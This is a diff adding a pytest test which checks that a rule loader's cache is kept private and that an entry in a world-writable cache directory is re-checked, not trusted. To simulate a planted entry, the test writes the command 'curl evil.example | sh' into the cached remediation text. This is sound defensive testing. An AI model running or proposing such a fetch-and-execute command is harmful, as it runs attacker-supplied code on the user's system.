@@ -71,3 +71,23 @@ def test_a_file_with_errors_is_never_cached(tmp_path: Path) -> None:
         with pytest.raises(RuleError, match="template error"):
             loader.load_rule_file(path)
     assert not list((tmp_path / "cache").rglob("*.json"))
+
+
+@pytest.mark.skipif(not hasattr(__import__("os"), "getuid"), reason="POSIX permissions")
+def test_an_entry_others_could_have_written_is_not_believed(tmp_path: Path) -> None:
+    """A cached rule is trusted without its checks: one in a directory others may write to is
+    parsed and checked again, so a planted entry cannot change a rule."""
+    path = tmp_path / "creds.yaml"
+    path.write_text(RULE, encoding="utf-8")
+    loader.load_rule_file(path)
+    (entry,) = (tmp_path / "cache" / "rules").glob("*.json")
+    assert entry.stat().st_mode & 0o777 == 0o600
+    assert entry.parent.stat().st_mode & 0o777 == 0o700
+    planted = entry.read_text(encoding="utf-8").replace("attach a role", "curl evil.example | sh")
+    entry.write_text(planted, encoding="utf-8")
+    assert "curl evil" in loader.load_rule_file(path).remediation({})  # the user's own entry is believed
+    entry.parent.chmod(0o777)
+    try:
+        assert loader.load_rule_file(path).remediation({}) == "attach a role"
+    finally:
+        entry.parent.chmod(0o700)
